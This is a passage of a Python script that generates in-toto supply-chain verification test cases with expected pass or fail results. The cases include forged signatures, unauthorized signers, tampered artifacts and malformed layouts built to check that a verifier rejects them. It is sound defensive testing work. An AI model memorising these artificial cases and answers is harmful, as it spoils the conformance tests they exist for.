    c.owners(K["owner"])
    c.layout(threshold_layout(K, [K["alice"], K["bob"], K["carol"]], 2), [K["owner"].signer])
    build_link(c, K["alice"])
    build_link(c, K["carol"])


@case("threshold-2-missed-fail", "fail", "threshold 2, only alice's link")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(threshold_layout(K, [K["alice"], K["bob"]], 2), [K["owner"].signer])
    build_link(c, K["alice"])


@case("threshold-2-same-key-twice-fail", "fail",
      "threshold 2: alice signed both links (the second named with bob's keyid)")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(threshold_layout(K, [K["alice"], K["bob"]], 2), [K["owner"].signer])
    build_link(c, K["alice"])
    build_link(c, K["alice"], file_keyid=K["bob"].keyid)


@case("threshold-2-artifacts-disagree-fail", "fail",
      "threshold 2, both links validly signed but their products differ")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(threshold_layout(K, [K["alice"], K["bob"]], 2), [K["owner"].signer])
    build_link(c, K["alice"])
    build_link(c, K["bob"], app=b"a different binary\n")


@case("threshold-2-one-bad-signature-fail", "fail",
      "threshold 2, bob's link has a broken signature")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(threshold_layout(K, [K["alice"], K["bob"]], 2), [K["owner"].signer])
    build_link(c, K["alice"])

    def mutate(d):
        d["signatures"][0]["sig"] = flip_hex(d["signatures"][0]["sig"])

    build_link(c, K["bob"], mutate=mutate)


@case("threshold-2-unauthorized-second-fail", "fail",
      "threshold 2 of alice and bob: alice's link and mallory's (named for mallory)")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(threshold_layout(K, [K["alice"], K["bob"]], 2), [K["owner"].signer])
    build_link(c, K["alice"])
    build_link(c, K["mallory"])


@case("threshold-2-same-key-two-keyids-pass", "pass",
      "threshold 2 where the layout lists alice's key under both keyid conventions; "
      "alice signed a link under each: in-toto counts two functionaries")
def _(c):
    K = c.K
    c.owners(K["owner"])
    steps = [Step(name="build", pubkeys=[K["alice"].keyid, K["alice"].legacy_keyid],
                  threshold=2, expected_command=[],
                  expected_materials=[["ALLOW", "src/*"], ["DISALLOW", "*"]],
                  expected_products=[["CREATE", "app"], ["DISALLOW", "*"]])]
    c.layout(mk_layout([K["alice"], (K["alice"], True)], steps), [K["owner"].signer])
    build_link(c, K["alice"])
    build_link(c, K["alice"], legacy=True)


@case("threshold-3-mixed-key-types-pass", "pass",
      "threshold 3 of ed25519, RSA and ECDSA functionaries, classic and DSSE links")
def _(c):
    K = c.K
    keys = [K["alice"], K["dave_rsa"], K["erin_ecdsa"]]
    c.owners(K["owner"])
    c.layout(threshold_layout(K, keys, 3), [K["owner"].signer])
    build_link(c, K["alice"])
    build_link(c, K["dave_rsa"], envelope=True)
    build_link(c, K["erin_ecdsa"])


# --- artifact rules ------------------------------------------------------------


def rule_case(c, materials, products, mrules, prules, before=(), inspect=()):
    """One step 'build' by alice with the given artifacts and rules, after
    optional steps `before` = [(name, materials, products)] by bob (whose
    rules allow everything)."""
    K = c.K
    c.owners(K["owner"])
    steps = [step(name, [K["bob"]], materials=[["ALLOW", "*"]], products=[["ALLOW", "*"]])
             for name, _, _ in before]
    steps.append(step("build", [K["alice"]], materials=mrules, products=prules))
    c.layout(mk_layout([K["alice"], K["bob"]], steps, inspect), [K["owner"].signer])
    for name, m, p in before:
        c.link(name, K["bob"], m, p)
    c.link("build", K["alice"], materials, products)


def D(data):
    return digest(data)


A, B, C = b"a\n", b"b\n", b"c\n"


@case("rule-match-fail", "fail",
      "package's material foo.py differs from write-code's product: MATCH consumes "
      "nothing, DISALLOW * fails")
def _(c):
    K = c.K
    demo(c)
    c.link("package", K["bob"], {"foo.py": digest(FOO_PY_EVIL)},
           {"foo.py": digest(FOO_PY_EVIL), "foo.tar": digest(FOO_TAR)}, PACKAGE_CMD)


@case("rule-match-src-prefix-pass", "pass",
      "MATCH * IN src WITH PRODUCTS FROM checkout: build's src/x.c matches checkout's x.c")
def _(c):
    rule_case(c, {"src/x.c": D(A), "src/y.c": D(B)}, {},
              [["MATCH", "*", "IN", "src", "WITH", "PRODUCTS", "FROM", "checkout"],
               ["DISALLOW", "*"]], [["DISALLOW", "*"]],
              before=[("checkout", {}, {"x.c": D(A), "y.c": D(B)})])


@case("rule-match-src-prefix-fail", "fail",
      "MATCH * IN lib ...: build's materials are under src/, nothing consumed")
def _(c):
    rule_case(c, {"src/x.c": D(A)}, {},
              [["MATCH", "*", "IN", "lib", "WITH", "PRODUCTS", "FROM", "checkout"],
               ["DISALLOW", "*"]], [],
              before=[("checkout", {}, {"x.c": D(A)})])


@case("rule-match-dst-prefix-pass", "pass",
      "MATCH *.c WITH PRODUCTS IN repo/src FROM checkout")
def _(c):
    rule_case(c, {"x.c": D(A)}, {},
              [["MATCH", "*.c", "WITH", "PRODUCTS", "IN", "repo/src", "FROM", "checkout"],
               ["DISALLOW", "*"]], [],
              before=[("checkout", {}, {"repo/src/x.c": D(A)})])


@case("rule-match-dst-prefix-fail", "fail",
      "MATCH *.c WITH PRODUCTS IN repo FROM checkout: checkout has repo/src/x.c, not repo/x.c")
def _(c):
    rule_case(c, {"x.c": D(A)}, {},
              [["MATCH", "*.c", "WITH", "PRODUCTS", "IN", "repo", "FROM", "checkout"],
               ["DISALLOW", "*"]], [],
              before=[("checkout", {}, {"repo/src/x.c": D(A)})])


@case("rule-match-both-prefixes-pass", "pass",
      "MATCH * IN build/out WITH PRODUCTS IN dist FROM checkout")
def _(c):
    rule_case(c, {}, {"build/out/lib.so": D(A)},
              [], [["MATCH", "*", "IN", "build/out", "WITH", "PRODUCTS", "IN", "dist",
                    "FROM", "checkout"], ["DISALLOW", "*"]],
              before=[("checkout", {}, {"dist/lib.so": D(A)})])


@case("rule-match-unknown-step-fail", "fail",
      "MATCH ... FROM a step the layout does not have: nothing consumed, DISALLOW fails")
def _(c):
    rule_case(c, {"x.c": D(A)}, {},
              [["MATCH", "*", "WITH", "PRODUCTS", "FROM", "no-such-step"], ["DISALLOW", "*"]],
              [])


@case("rule-match-unknown-step-allowed-pass", "pass",
      "MATCH ... FROM an unknown step consumes nothing; ALLOW * then passes")
def _(c):
    rule_case(c, {"x.c": D(A)}, {},
              [["MATCH", "*", "WITH", "PRODUCTS", "FROM", "no-such-step"], ["ALLOW", "*"],
               ["DISALLOW", "*"]],
              [])


@case("rule-match-with-materials-pass", "pass",
      "MATCH * WITH MATERIALS FROM checkout (checkout's materials, not products)")
def _(c):
    rule_case(c, {"x.c": D(A)}, {},
              [["MATCH", "*", "WITH", "MATERIALS", "FROM", "checkout"], ["DISALLOW", "*"]], [],
              before=[("checkout", {"x.c": D(A)}, {"other": D(B)})])


@case("rule-match-with-materials-fail", "fail",
      "MATCH * WITH MATERIALS FROM checkout, but x.c is only among checkout's products")
def _(c):
    rule_case(c, {"x.c": D(A)}, {},
              [["MATCH", "*", "WITH", "MATERIALS", "FROM", "checkout"], ["DISALLOW", "*"]], [],
              before=[("checkout", {}, {"x.c": D(A)})])


@case("rule-match-digest-set-differs-fail", "fail",
      "x.c has {sha256} in build and {sha256, sha512} in checkout: whole digest dicts "
      "differ, MATCH consumes nothing")
def _(c):
    both = dict(D(A), sha512=hashlib.sha512(A).hexdigest())
    rule_case(c, {"x.c": D(A)}, {},
              [["MATCH", "*", "WITH", "PRODUCTS", "FROM", "checkout"], ["DISALLOW", "*"]], [],
              before=[("checkout", {}, {"x.c": both})])


@case("rule-match-lowercase-keywords-pass", "pass", "match ... with products from ...: keywords in lower case")
def _(c):
    rule_case(c, {"x.c": D(A)}, {},
              [["match", "*", "with", "products", "from", "checkout"], ["disallow", "*"]], [],
              before=[("checkout", {}, {"x.c": D(A)})])


@case("rule-create-fail", "fail",
      "CREATE out: out is both a material and a product, so not created; DISALLOW fails")
def _(c):
    rule_case(c, {"out": D(A)}, {"out": D(B)}, [["ALLOW", "*"]],
              [["CREATE", "out"], ["DISALLOW", "*"]])


@case("rule-delete-pass", "pass", "DELETE tmp.o: a material that is not a product")
def _(c):
    rule_case(c, {"tmp.o": D(A), "keep": D(B)}, {"keep": D(B)},
              [["DELETE", "tmp.o"], ["ALLOW", "keep"], ["DISALLOW", "*"]],
              [["ALLOW", "keep"], ["DISALLOW", "*"]])


@case("rule-delete-fail", "fail", "DELETE tmp.o, but tmp.o is still a product")
def _(c):
    rule_case(c, {"tmp.o": D(A)}, {"tmp.o": D(A)},
              [["DELETE", "tmp.o"], ["DISALLOW", "*"]], [["ALLOW", "*"]])


@case("rule-modify-pass", "pass", "MODIFY version.txt: digest changed")
def _(c):
    rule_case(c, {"version.txt": D(A)}, {"version.txt": D(B)},
              [["ALLOW", "*"]], [["MODIFY", "version.txt"], ["DISALLOW", "*"]])


@case("rule-modify-fail", "fail", "MODIFY version.txt: digest unchanged")
def _(c):
    rule_case(c, {"version.txt": D(A)}, {"version.txt": D(A)},
              [["ALLOW", "*"]], [["MODIFY", "version.txt"], ["DISALLOW", "*"]])


@case("rule-allow-fail", "fail", "ALLOW *.txt does not cover notes.md; DISALLOW * fails")
def _(c):
    rule_case(c, {}, {"a.txt": D(A), "notes.md": D(B)}, [],
              [["ALLOW", "*.txt"], ["DISALLOW", "*"]])


@case("rule-disallow-specific-fail", "fail", "DISALLOW *.key with secret.key among the products")
def _(c):
    rule_case(c, {}, {"app": D(A), "secret.key": D(B)}, [],
              [["DISALLOW", "*.key"], ["ALLOW", "*"]])


@case("rule-disallow-specific-pass", "pass", "DISALLOW *.key with no key among the products")
def _(c):
    rule_case(c, {}, {"app": D(A), "README": D(B)}, [],
              [["DISALLOW", "*.key"], ["ALLOW", "*"]])


@case("rule-require-pass", "pass", "REQUIRE app with app among the products")
def _(c):
    rule_case(c, {}, {"app": D(A)}, [], [["REQUIRE", "app"], ["ALLOW", "*"]])


@case("rule-require-missing-fail", "fail", "REQUIRE app, but the step produced nothing named app")
def _(c):
    rule_case(c, {}, {"app.exe": D(A)}, [], [["REQUIRE", "app"], ["ALLOW", "*"]])


@case("rule-require-consumed-fail", "fail",
      "REQUIRE app after ALLOW * consumed it: the queue no longer holds app")
def _(c):
    rule_case(c, {}, {"app": D(A)}, [], [["ALLOW", "*"], ["REQUIRE", "app"]])


@case("rule-require-is-literal-fail", "fail",
      "REQUIRE *.txt: REQUIRE takes a literal path, not a pattern")
def _(c):
    rule_case(c, {}, {"a.txt": D(A)}, [], [["REQUIRE", "*.txt"], ["ALLOW", "*"]])


@case("rule-empty-lists-pass", "pass",
      "no artifact rules at all: everything is implicitly allowed")
def _(c):
    rule_case(c, {"anything": D(A)}, {"whatever": D(B)}, [], [])


# --- fnmatch corner cases ----------------------------------------------------


@case("fnmatch-star-crosses-slash-pass", "pass",
      "ALLOW src/*.c covers src/sub/deep/x.c (fnmatch's * matches /)")
def _(c):
    rule_case(c, {"src/a.c": D(A), "src/sub/deep/x.c": D(B)}, {},
              [["ALLOW", "src/*.c"], ["DISALLOW", "*"]], [])


@case("fnmatch-negated-class-fail", "fail",
      "ALLOW file[!x].txt leaves filex.txt in the queue; DISALLOW * fails")
def _(c):
    rule_case(c, {}, {"file1.txt": D(A), "filex.txt": D(B)}, [],
              [["ALLOW", "file[!x].txt"], ["DISALLOW", "*"]])


@case("fnmatch-negated-class-pass", "pass",
      "ALLOW file[!x].txt and ALLOW file[x].txt cover both")
def _(c):
    rule_case(c, {}, {"file1.txt": D(A), "filex.txt": D(B)}, [],
              [["ALLOW", "file[!x].txt"], ["ALLOW", "file[x].txt"], ["DISALLOW", "*"]])


@case("fnmatch-question-mark-fail", "fail",
      "ALLOW v?.bin matches v1.bin but not v10.bin")
def _(c):
    rule_case(c, {}, {"v1.bin": D(A), "v10.bin": D(B)}, [],
              [["ALLOW", "v?.bin"], ["DISALLOW", "*"]])


@case("fnmatch-question-mark-slash-pass", "pass",
      "ALLOW a?b matches a/b (? matches /) and DISALLOW .* has nothing left")
def _(c):
    rule_case(c, {}, {"a/b": D(A), "axb": D(B)}, [],
              [["ALLOW", "a?b"], ["DISALLOW", "*"]])


@case("fnmatch-case-sensitive-fail", "fail", "ALLOW *.C does not match x.c")
def _(c):
    rule_case(c, {}, {"x.c": D(A)}, [], [["ALLOW", "*.C"], ["DISALLOW", "*"]])


@case("fnmatch-dotfile-pass", "pass", "ALLOW * matches .hidden and dir/.git/config")
def _(c):
    rule_case(c, {}, {".hidden": D(A), "dir/.git/config": D(B)}, [],
              [["ALLOW", "*"], ["DISALLOW", "*"]])


@case("fnmatch-brackets-range-pass", "pass",
      "ALLOW lib[0-9].so and ALLOW []]x: a range and a class holding ]")
def _(c):
    rule_case(c, {}, {"lib7.so": D(A), "]x": D(B)}, [],
              [["ALLOW", "lib[0-9].so"], ["ALLOW", "[]]x"], ["DISALLOW", "*"]])


# --- sublayouts ---------------------------------------------------------------


def sub_layout(K, expires=EXPIRES):
    """carol's sublayout for step 'build': 'compile' by alice, 'strip' by bob."""
    steps = [
        step("compile", [K["alice"]], materials=[["ALLOW", "src/*"], ["DISALLOW", "*"]],
             products=[["CREATE", "app.unstripped"], ["DISALLOW", "*"]]),
        step("strip", [K["bob"]],
             materials=[["MATCH", "app.unstripped", "WITH", "PRODUCTS", "FROM", "compile"],
                        ["DISALLOW", "*"]],
             products=[["CREATE", "app"], ["DELETE", "app.unstripped"], ["DISALLOW", "*"]]),
    ]
    return mk_layout([K["alice"], K["bob"]], steps, expires=expires)


def root_with_build(K, release_rules=None, inspect=()):
    steps = [
        step("checkout", [K["alice"]], products=[["CREATE", "src/*"], ["DISALLOW", "*"]]),
        step("build", [K["carol"]],
             materials=[["MATCH", "src/*", "WITH", "PRODUCTS", "FROM", "checkout"],
                        ["DISALLOW", "*"]],
             products=release_rules or [["CREATE", "app"], ["DISALLOW", "*"]]),
    ]
    return mk_layout([K["alice"], K["carol"]], steps, inspect)


UNSTRIPPED = b"\x7fELF unstripped\n"


def sub_links(c, sub_dir, compile_src=SRC, app=APP, envelope=False):
    K = c.K
    c.link("compile", K["alice"], {"src/main.c": D(compile_src)},
           {"app.unstripped": D(UNSTRIPPED)}, subdir=sub_dir, envelope=envelope)
    c.link("strip", K["bob"], {"app.unstripped": D(UNSTRIPPED)}, {"app": D(app)},
           subdir=sub_dir, envelope=envelope)


def sublayout_case(c, sub=None, sub_signer=None, envelope=False, root_inspect=(),
                   release_rules=None, links=True, compile_src=SRC):
    K = c.K
    c.owners(K["owner"])
    c.layout(root_with_build(K, release_rules, root_inspect), [K["owner"].signer])
    c.link("checkout", K["alice"], {}, {"src/main.c": D(SRC)})
    sub = sub or sub_layout(K)
    data = (dsse if envelope else classic)(sub, [sub_signer or K["carol"].signer])
    c.write_json(f"links/build.{K['carol'].keyid[:8]}.link", data)
    sub_dir = f"build.{K['carol'].keyid[:8]}"
    if links:
        sub_links(c, sub_dir, compile_src=compile_src)
    else:
        os.makedirs(os.path.join(c.dir, "links", sub_dir), exist_ok=True)
    return sub_dir


@case("sublayout-pass", "pass",
      "step 'build' delegated to carol's sublayout (compile, strip) with links in "
      "build.KEYID8/; the summary link passes the root's rules")
def _(c):
    sublayout_case(c)


@case("sublayout-dsse-pass", "pass", "the same with the sublayout as a DSSE envelope")
def _(c):
    sublayout_case(c, envelope=True)


@case("sublayout-missing-links-fail", "fail", "the sublayout's link directory is empty")
def _(c):
    sublayout_case(c, links=False)


@case("sublayout-inner-rule-fail", "fail",
      "inside the sublayout, strip's material differs from compile's product")
def _(c):
    K = c.K
    sub_dir = sublayout_case(c)
    c.link("strip", K["bob"], {"app.unstripped": D(b"other\n")}, {"app": D(APP)}, subdir=sub_dir)


@case("sublayout-summary-rule-fail", "fail",
      "the sublayout passes, but the root's rules on its summary link fail "
      "(compile's materials do not match checkout)")
def _(c):
    sublayout_case(c, compile_src=b"int main(void) { return 1; }\n")


@case("sublayout-expired-fail", "fail", "carol's sublayout expired yesterday")
def _(c):
    sublayout_case(c, sub=sub_layout(c.K, expires=EXPIRED))


@case("sublayout-wrong-signer-fail", "fail",
      "the sublayout in carol's file is signed by mallory")
def _(c):
    sublayout_case(c, sub_signer=c.K["mallory"].signer)


@case("sublayout-summary-products-pass", "pass",
      "root's product rules see the sublayout's last step's products only "
      "(REQUIRE app, DISALLOW app.unstripped)")
def _(c):
    sublayout_case(c, release_rules=[["REQUIRE", "app"], ["DISALLOW", "app.unstripped"],
                                     ["ALLOW", "app"], ["DISALLOW", "*"]])


@case("sublayout-nested-pass", "pass",
      "two levels: build -> carol's sublayout whose 'compile' step is alice's sublayout")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(root_with_build(K), [K["owner"].signer])
    c.link("checkout", K["alice"], {}, {"src/main.c": D(SRC)})
    c.write_json(f"links/build.{K['carol'].keyid[:8]}.link",
                 classic(sub_layout(K), [K["carol"].signer]))
    sub_dir = f"build.{K['carol'].keyid[:8]}"
    inner = mk_layout([K["bob"]], [
        step("cc", [K["bob"]], materials=[["ALLOW", "*"]], products=[["ALLOW", "*"]]),
    ])
    c.write_json(f"links/{sub_dir}/compile.{K['alice'].keyid[:8]}.link",
                 classic(inner, [K["alice"].signer]))
    inner_dir = f"{sub_dir}/compile.{K['alice'].keyid[:8]}"
    c.link("cc", K["bob"], {"src/main.c": D(SRC)}, {"app.unstripped": D(UNSTRIPPED)},
           subdir=inner_dir)
    c.link("strip", K["bob"], {"app.unstripped": D(UNSTRIPPED)}, {"app": D(APP)},
           subdir=sub_dir)


@case("sublayout-inspection-fail", "fail",
      "carol's sublayout has an inspection that exits 1 (run in the current directory)")
def _(c):
    K = c.K
    sub = sub_layout(K)
    sub.inspect = [inspection("sub-check", ["sh", "-c", "exit 1"])]
    sublayout_case(c, sub=sub)


# --- inspections -----------------------------------------------------------------


@case("inspection-true-pass", "pass", "an inspection running `true` with no rules")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(mk_layout([], [], [inspection("noop", ["true"])]), [K["owner"].signer])
    c.work("a.txt", A)


@case("inspection-nonzero-fail", "fail", "an inspection exiting 3")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(mk_layout([], [], [inspection("check", ["sh", "-c", "exit 3"])]),
             [K["owner"].signer])


@case("inspection-not-found-fail", "fail", "an inspection whose command does not exist")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(mk_layout([], [], [inspection("check", ["tracelink-no-such-command-xyz"])]),
             [K["owner"].signer])


@case("inspection-rule-fail", "fail",
      "the tar in the current directory holds a different foo.py than write-code "
      "made (and the package link agrees with the tar): untar's MATCH fails")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(demo_layout(K), [K["owner"].signer])
    c.link("write-code", K["alice"], {}, {"foo.py": digest(FOO_PY)}, WRITE_CODE_CMD)
    c.link("package", K["bob"], {"foo.py": digest(FOO_PY)},
           {"foo.py": digest(FOO_PY), "foo.tar": digest(FOO_TAR_EVIL)}, PACKAGE_CMD)
    c.work("foo.tar", FOO_TAR_EVIL)


@case("inspection-tar-mismatch-fail", "fail",
      "the tar in the current directory is not the one the package step made")
def _(c):
    demo(c)
    c.work("foo.tar", FOO_TAR_EVIL)


@case("inspection-creates-file-pass", "pass",
      "an inspection writes out.txt; its product rules CREATE it and REQUIRE a.txt")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(mk_layout([], [], [inspection(
        "gen", ["sh", "-c", "echo hi > out.txt"],
        materials=[["REQUIRE", "a.txt"], ["ALLOW", "a.txt"], ["DISALLOW", "*"]],
        products=[["CREATE", "out.txt"], ["ALLOW", "a.txt"], ["DISALLOW", "*"]],
    )]), [K["owner"].signer])
    c.work("a.txt", A)


@case("inspection-modifies-file-fail", "fail",
      "an inspection modifies a.txt but its product rules only allow it unchanged "
      "(MATCH against its own materials)")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(mk_layout([], [], [inspection(
        "edit", ["sh", "-c", "echo more >> a.txt"],
        materials=[["ALLOW", "*"]],
        products=[["MATCH", "a.txt", "WITH", "MATERIALS", "FROM", "edit"], ["DISALLOW", "*"]],
    )]), [K["owner"].signer])
    c.work("a.txt", A)


@case("inspection-default-excludes-pass", "pass",
      "the inspection's snapshot skips in-toto-run's default excludes (.git, *.link*, "
      "*.pyc, *~); only a.txt is recorded")
def _(c):
    K = c.K
    c.owners(K["owner"])
    rules = [["REQUIRE", "a.txt"], ["ALLOW", "a.txt"], ["DISALLOW", "*"]]
    c.layout(mk_layout([], [], [inspection("look", ["true"], rules, rules)]),
             [K["owner"].signer])
    c.work("a.txt", A)
    c.work(".git/config", B)
    c.work("old.link", C)
    c.work("mod.pyc", C)
    c.work("notes~", C)


@case("inspection-chain-pass", "pass",
      "a second inspection MATCHes the first inspection's products, and a step's")
def _(c):
    K = c.K
    c.owners(K["owner"])
    steps = [step("write", [K["alice"]], products=[["ALLOW", "*"]])]
    insp = [
        inspection("gen", ["sh", "-c", "cp a.txt b.txt"],
                   materials=[["MATCH", "a.txt", "WITH", "PRODUCTS", "FROM", "write"],
                              ["DISALLOW", "*"]],
                   products=[["CREATE", "b.txt"], ["ALLOW", "a.txt"], ["DISALLOW", "*"]]),
        inspection("check", ["true"],
                   materials=[["MATCH", "*", "WITH", "PRODUCTS", "FROM", "gen"],
                              ["DISALLOW", "*"]]),
    ]
    c.layout(mk_layout([K["alice"]], steps, insp), [K["owner"].signer])
    c.link("write", K["alice"], {}, {"a.txt": D(A)})
    c.work("a.txt", A)


@case("inspection-after-step-rule-failure-fail", "fail",
      "a step's rules fail, so the inspection (which would pass) is never reached")
def _(c):
    K = c.K
    c.owners(K["owner"])
    steps = [step("write", [K["alice"]], products=[["DISALLOW", "*"]])]
    c.layout(mk_layout([K["alice"]], steps, [inspection("noop", ["true"])]),
             [K["owner"].signer])
    c.link("write", K["alice"], {}, {"a.txt": D(A)})


@case("inspection-match-later-inspection-pass", "pass",
      "the first inspection MATCHes the products of the second: every inspection "
      "runs before any inspection's rules are checked")
def _(c):
    K = c.K
    c.owners(K["owner"])
    insp = [
        inspection("first", ["true"],
                   products=[["MATCH", "*", "WITH", "PRODUCTS", "FROM", "second"],
                             ["DISALLOW", "*"]]),
        inspection("second", ["sh", "-c", "echo x > made-by-second.txt"]),
    ]
    c.layout(mk_layout([], [], insp), [K["owner"].signer])
    c.work("a.txt", A)
    # `first` records a.txt; `second` records a.txt and its new file.


@case("rule-match-from-inspection-in-step-fail", "fail",
      "a step's rule MATCHes FROM an inspection: step rules are checked before "
      "inspections run, so the inspection is an unknown item then")
def _(c):
    K = c.K
    c.owners(K["owner"])
    steps = [step("write", [K["alice"]],
                  products=[["MATCH", "a.txt", "WITH", "PRODUCTS", "FROM", "look"],
                            ["DISALLOW", "*"]])]
    c.layout(mk_layout([K["alice"]], steps, [inspection("look", ["true"])]),
             [K["owner"].signer])
    c.link("write", K["alice"], {}, {"a.txt": D(A)})
    c.work("a.txt", A)


@case("inspection-empty-run-fail", "fail",
      "an inspection with an empty `run`: in-toto runs nothing, records no "
      "return value, and fails on the missing (non-int) return value")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(mk_layout([], [], [inspection("nothing", [])]), [K["owner"].signer])
    c.work("a.txt", A)


# --- more layout and link corners -------------------------------------------


@case("threshold-0-no-links-fail", "fail",
      "a step with threshold 0 and no links: in-toto 3.1.0 fails (its "
      "reduce_chain_links takes the first link of an empty set)")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(threshold_layout(K, [K["alice"]], 0), [K["owner"].signer])


@case("threshold-0-with-link-pass", "pass", "a step with threshold 0 and one valid link")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(threshold_layout(K, [K["alice"]], 0), [K["owner"].signer])
    build_link(c, K["alice"])


@case("threshold-2-duplicate-keyid-fail", "fail",
      "threshold 2 with pubkeys [alice, alice]: one link file, one functionary")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(threshold_layout(K, [K["alice"], K["alice"]], 2), [K["owner"].signer])
    build_link(c, K["alice"])


@case("owner-key-given-twice-pass", "pass", "the same owner key file passed twice")
def _(c):
    demo(c)
    c.key_files.append(c.key_files[0])


@case("link-dir-missing-fail", "fail", "--link-dir names a directory that does not exist")
def _(c):
    demo(c)
    c.link_dir = "no-such-dir"


@case("link-dir-missing-no-steps-pass", "pass",
      "--link-dir does not exist, but the layout has no steps (only an inspection)")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(mk_layout([], [], [inspection("noop", ["true"])]), [K["owner"].signer])
    c.link_dir = "no-such-dir"


# --- malformed metadata ---------------------------------------------------------


@case("layout-malformed-json-fail", "fail", "root.layout is not JSON (truncated)")
def _(c):
    demo(c)
    path = os.path.join(c.dir, "root.layout")
    with open(path, "rb") as f:
        data = f.read()
    c.write_bytes("root.layout", data[: len(data) // 2])


@case("layout-bad-schema-fail", "fail",
      "a signed layout whose step threshold is the string \"1\" (in-toto's "
      "schema check raises FormatError)")
def _(c):
    K = c.K
    c.owners(K["owner"])
    layout = demo_layout(K)
    d = json.loads(repr(layout))
    d["steps"][0]["threshold"] = "1"
    sig = K["owner"].signer.sign(encode_canonical(d).encode())
    c.write_json("root.layout", {"signatures": [sig.to_dict()], "signed": d})
    demo_links(c)


@case("layout-bad-expires-fail", "fail",
      "a signed layout whose expires lacks the trailing Z")
def _(c):
    K = c.K
    c.owners(K["owner"])
    d = json.loads(repr(demo_layout(K)))
    d["expires"] = EXPIRES.rstrip("Z")
    sig = K["owner"].signer.sign(encode_canonical(d).encode())
    c.write_json("root.layout", {"signatures": [sig.to_dict()], "signed": d})
    demo_links(c)


@case("link-malformed-json-fail", "fail", "package's link file is not JSON")
def _(c):
    demo(c)
    c.write_bytes(f"links/package.{c.K['bob'].keyid[:8]}.link", b"{\"signed\": ")


@case("link-bad-schema-fail", "fail",
      "package's link has materials as a list (signed that way): in-toto raises FormatError")
def _(c):
    K = c.K
    demo(c)
    link = {
        "_type": "link", "name": "package", "command": PACKAGE_CMD,
        "materials": ["foo.py"], "products": {"foo.tar": digest(FOO_TAR)},
        "byproducts": {}, "environment": {},
    }
    sig = K["bob"].signer.sign(encode_canonical(link).encode())
    c.write_json(f"links/package.{K['bob'].keyid[:8]}.link",
                 {"signatures": [sig.to_dict()], "signed": link})


@case("layout-is-a-link-fail", "fail",
      "root.layout is a (validly signed) link, not a layout")
def _(c):
    K = c.K
    c.owners(K["owner"])
    link = Link(name="x", materials={}, products={}, command=[], byproducts={}, environment={})
    c.write_json("root.layout", classic(link, [K["owner"].signer]))


@case("layout-duplicate-step-names-fail", "fail",
      "a signed layout with two steps named write-code (FormatError)")
def _(c):
    K = c.K
    c.owners(K["owner"])
    d = json.loads(repr(demo_layout(K)))
    d["steps"][1]["name"] = "write-code"
    c.write_json("root.layout", sign_raw(K["owner"].signer, d))
    demo_links(c)


@case("layout-malformed-rule-fail", "fail",
      "a signed layout with the rule [\"MATCH\", \"foo.py\"] (FormatError)")
def _(c):
    K = c.K
    c.owners(K["owner"])
    d = json.loads(repr(demo_layout(K)))
    d["steps"][1]["expected_materials"][0] = ["MATCH", "foo.py"]
    c.write_json("root.layout", sign_raw(K["owner"].signer, d))
    demo_links(c)


# --------------------------------------------------------------------------


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("outdir")
    parser.add_argument("--only", nargs="*", help="generate only these cases")
    args = parser.parse_args()

    if in_toto.__version__ != "3.1.0":
        print(f"warning: in-toto {in_toto.__version__}, not 3.1.0", file=sys.stderr)

    os.makedirs(args.outdir, exist_ok=True)
    K = make_keys()
    keydir = os.path.join(args.outdir, "keys")
    os.makedirs(keydir, exist_ok=True)
    for k in K.values():
        with open(os.path.join(keydir, f"{k.name}.pem"), "wb") as f:
            f.write(k.private_pem)
        os.chmod(os.path.join(keydir, f"{k.name}.pem"), 0o600)
        with open(os.path.join(keydir, f"{k.name}.pub"), "wb") as f:
            f.write(k.public_pem)

    names = []
    seen = set()
    for name, expect, description, fn in CASES:
        assert name not in seen, f"duplicate case {name}"
        seen.add(name)
        if args.only and name not in args.only:
            continue
        c = Case(args.outdir, K, name, description, expect)
        fn(c)
        c.finish()
        names.append(name)

    with open(os.path.join(args.outdir, "cases.json"), "w", encoding="utf-8") as f:
        json.dump({"in_toto_version": in_toto.__version__, "cases": names}, f, indent=1)
        f.write("\n")
    print(f"{len(names)} cases in {args.outdir}")


if __name__ == "__main__":
    main()
